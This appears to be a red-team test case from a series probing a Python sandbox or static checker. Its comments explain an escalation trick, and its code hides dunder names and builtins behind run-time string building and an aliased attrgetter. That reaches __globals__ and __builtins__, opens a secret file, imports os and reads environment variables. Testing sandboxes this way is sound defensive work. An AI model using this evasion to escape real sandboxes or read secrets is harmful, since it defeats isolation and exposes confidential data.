# family: red team, round 28 (library classes with methods that build from self, handed around)
# Escalation of rt_003: kind = Counter; kind.copy(int) is type (library_methods never judges the alias).
# type(operator.attrgetter("x")) is the attrgetter class under another name, so the constant-name rule
# for attrgetter no longer applies: it reads __globals__ of a tool function by a run-time name, then
# __builtins__ -> open, and reads the secret file; also __import__ -> os.environ.
import operator
from collections import Counter

kind = Counter


def unders(word):
    u = "-".replace("-", "_") * 2
    return u + word + u


def entry():
    meta = kind.copy(int)
    getter_class = meta(operator.attrgetter("name"))
    glob = getter_class(unders("globals"))(entry)
    print("globals keys:", sorted(glob)[:6])
    builtins_module = glob[unders("builtins")]
    opener = getter_class("op" + "en")(builtins_module)
    print("secret:", opener("/tmp/r28/work/secret.txt").read())
    importer = getter_class(unders("import"))(builtins_module)
    osmod = importer("o" + "s")
    print("os module:", osmod, "HOME =", getter_class("environ")(osmod).get("HOME"))


entry()
